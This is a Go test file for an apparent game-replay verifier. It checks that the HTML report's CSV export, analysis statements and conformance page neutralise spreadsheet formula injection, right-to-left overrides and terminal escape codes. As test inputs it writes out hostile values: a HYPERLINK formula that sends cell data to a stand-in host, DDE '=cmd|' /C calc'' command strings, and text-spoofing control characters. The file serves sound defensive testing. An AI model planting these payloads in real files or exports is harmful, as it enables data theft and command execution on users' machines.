package htmlview

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"os"
	"regexp"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/tileproof/tileproof/analyze"
	"github.com/tileproof/tileproof/conformance"
	"github.com/tileproof/tileproof/replay"
)

// The third attack pass (2026-12-07): the report's CSV read by a
// spreadsheet, and the analysis's words on a page.

// formulaStart matches a cell a spreadsheet would read as a formula: one
// that begins with = + - @, after spaces, tabs, carriage returns, NULs
// or quotes (OWASP's list, and ASVS 1.2.10's tab and NUL).
var formulaStart = regexp.MustCompile(`^[\s\x00"]*[=+\-@]`)

// TestBrowserReportCSVNoFormula: no cell of the CSV of what is shown is
// a formula to a spreadsheet, whichever separator it reads the file by:
// a name beginning with = + - @ (after spaces or quotes) starts with ',
// and so does a part of a name after a semicolon, the list separator of
// the spreadsheets of many locales, which read "x;=1+1;y.yaml" as three
// cells, the second a formula, quoted or not (before: written as it is).
// An unreadable replay's error, which names the file, is held alike. The
// names are shown as the page shows them: a tab, a carriage return or a
// NUL that would start a cell, and a right-to-left override that turns
// a name around, are written \x09, \x0d, \x00, \u202e (before: as they
// are).
func TestBrowserReportCSVNoFormula(t *testing.T) {
	t.Parallel()
	names := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"open")`, "+1+2.yaml", "-1+2.yaml", "@SUM(1).yaml",
		"\t=1+1.yaml", "\r=1+1.yaml", "\x00=1+1.yaml", " =1+1.yaml", `"=1+1".yaml`,
		"x;=cmd|' /C calc'!A0;y.yaml", `x; "=1+1";y.yaml`, "x,=1+1,y.yaml",
		"subs/\u202elmay.ecila",
	}
	var entries []Entry
	for _, name := range names {
		claimed := uint64(12)
		v := replay.Verdict{Name: name, Valid: true, Replayed: true, Score: 12, MaxTile: 8, Moves: 4, Result: 2, Profile: "classic"}
		entries = append(entries, Entry{Verdict: v, Claimed: &claimed})
	}
	entries = append(entries, Entry{Verdict: replay.Verdict{Name: "u.yaml", Reason: replay.Malformed, Error: "=cmd|' /C calc'!A0;=1+1 is no replay"}})
	ctx := openIn(t, tab(t), reportHTML(t, "t", entries), 1280, 900, "", "body[data-ready]")
	lines := shownCSV(t, ctx)
	text := strings.Join(lines, "\r\n")
	if strings.Contains(text, "\u202e") {
		t.Errorf("the CSV holds a right-to-left override as it is: %q", text)
	}
	r := csv.NewReader(strings.NewReader(text))
	r.FieldsPerRecord = -1
	records, err := r.ReadAll()
	if err != nil || len(records) != len(entries)+1 {
		t.Fatalf("the CSV: %d records, %v: %q", len(records), err, text)
	}
	seen := map[string]bool{}
	for _, rec := range records[1:] {
		for _, cell := range rec {
			if formulaStart.MatchString(cell) {
				t.Errorf("a cell a spreadsheet reads as a formula: %q", cell)
			}
		}
		seen[rec[1]] = true
	}
	// Read by semicolons, every cell but a line's first begins after one.
	for _, line := range lines[1:] {
		for _, part := range strings.Split(line, ";")[1:] {
			if formulaStart.MatchString(part) {
				t.Errorf("read by semicolons, a cell a spreadsheet reads as a formula: %q, in %q", part, line)
			}
		}
	}
	// The names are there, their text kept: a quote before, escapes
	// shown.
	for _, want := range []string{`'=HYPERLINK("http://evil.example/?"&A1,"open")`, "'+1+2.yaml", `\x09=1+1.yaml`, `\x00=1+1.yaml`, `' =1+1.yaml`,
		`x;'=cmd|' /C calc'!A0;y.yaml`, `x;' "=1+1";y.yaml`, `subs/\u202elmay.ecila`} {
		if !seen[want] {
			t.Errorf("no name %q in the CSV: %q", want, text)
		}
	}
	// The JSON of what is shown keeps the names as they are.
	do(t, ctx, "the JSON", chromedp.Evaluate[chromedp.Void](`URL.createObjectURL = b => { b.text().then(s => { window.tpJSON = s; }); return "data:text/plain,"; }; URL.revokeObjectURL = () => {}; document.getElementById("dl-json").click()`))
	js, err := chromedp.Run(ctx, chromedp.Poll[string](`window.tpJSON`, chromedp.WithPollingTimeout(hangBound)))
	if err != nil {
		t.Fatal(err)
	}
	var rows []struct{ Replay *string }
	if err := json.Unmarshal([]byte(js), &rows); err != nil || len(rows) != len(entries) {
		t.Fatalf("the JSON: %v, %q", err, js)
	}
	for _, r := range rows {
		if r.Replay != nil && *r.Replay == names[len(names)-1] {
			return
		}
	}
	t.Errorf("the JSON does not keep the name %q as it is: %q", names[len(names)-1], js)
}

// TestAnalysisTextShown: the analysis's statement on a page names the
// game by its file's name and the reference by its own, and a game not
// analysed says why, which may quote the name: each shown as the page
// shows a name (\u202e), so that a right-to-left override cannot turn
// the rest of the statement around (before: written as it is, the
// name's own heading shown escaped above it).
func TestAnalysisTextShown(t *testing.T) {
	data, err := os.ReadFile("../analyze/data/reference.json")
	if err != nil {
		t.Fatal(err)
	}
	var raw map[string]any
	if err := json.Unmarshal(data, &raw); err != nil {
		t.Fatal(err)
	}
	raw["name"] = "humans\u202esrc\x1b[31m"
	if data, err = json.Marshal(raw); err != nil {
		t.Fatal(err)
	}
	ref, err := analyze.ParseReference(data)
	if err != nil {
		t.Fatal(err)
	}
	name := "subs/\u202elmay.ecila\x1b[31m"
	g := load(t, "valid/committed-seed.yaml")
	g.Verdict.Name = name
	rep, err := analyze.Analyze(context.Background(), replay.NewVerifier(), name, g.Replay, analyze.Options{Reference: ref})
	if err != nil {
		t.Fatal(err)
	}
	if g.Verdict.Analysis, err = json.Marshal(rep); err != nil {
		t.Fatal(err)
	}
	p := page(t, g)
	if s := byID(t, p, "statement"); !strings.HasPrefix(s, `subs/\u202elmay.ecila\x1b[31m: `) || !strings.Contains(s, `Against reference humans\u202esrc\x1b[31m (`) {
		t.Errorf("the statement: %q", s)
	}
	if s := byID(t, p, "reference"); !strings.HasPrefix(s, `humans\u202esrc\x1b[31m (`) {
		t.Errorf("the reference: %q", s)
	}
	pages := []string{p}
	g.Verdict.Analysis, _ = json.Marshal(map[string]string{"band": analyze.Insufficient, "reason": "open " + name + ": no such file"})
	p = page(t, g)
	if s := byID(t, p, "evidence-why"); s != `not analysed: open subs/\u202elmay.ecila\x1b[31m: no such file` {
		t.Errorf("why not analysed: %q", s)
	}
	for _, p := range append(pages, p) {
		if body := dataScript.ReplaceAllString(p, ""); strings.ContainsAny(body, "\u202e\x1b") {
			t.Errorf("the page holds an override or an escape as it is")
		}
	}
}

// TestConformancePackTextShown: the conformance page shows the case
// pack's text, which --cases names (any folder), with its controls and
// format characters visible, as it shows the implementation's: the
// pack's name and version, a failing case's description, source, seed
// and YAML. Before, a right-to-left override there reversed what
// followed it on the page, and its controls were written into the HTML.
func TestConformancePackTextShown(t *testing.T) {
	rep := causeReport()
	rep.Pack, rep.PackVersion = "cases\u202eKCAP\x1b[8m", "0.1\u2066"
	hostile := "a left move \u202eevom\x1b]0;t\x07"
	rep.Results[0].Info = &conformance.CaseInfo{Description: hostile, Source: "src " + hostile, From: "seed 7\u202e", Steps: []conformance.StepInfo{{Action: "left"}},
		YAML: "cases:\n  - id: x\n    description: " + hostile + "\n"}
	var b bytes.Buffer
	if err := Conformance(&b, rep); err != nil {
		t.Fatal(err)
	}
	page := b.String()
	for _, r := range page {
		if r < 0x20 && r != '\n' && r != '\t' || r == 0x7f || r >= 0x2066 && r <= 0x2069 || r >= 0x202a && r <= 0x202e {
			t.Fatalf("the page holds %U", r)
		}
	}
	for _, want := range []string{`the pack cases\u202eKCAP\x1b[8m 0.1\u2066,`, `<p>a left move \u202eevom\x1b]0;t\x07</p>`, `source: src a left move \u202eevom`,
		`description: a left move \u202eevom\x1b]0;t\x07`, `from seed 7\u202e`} {
		if !strings.Contains(page, want) {
			t.Errorf("the page does not show %s", want)
		}
	}
}
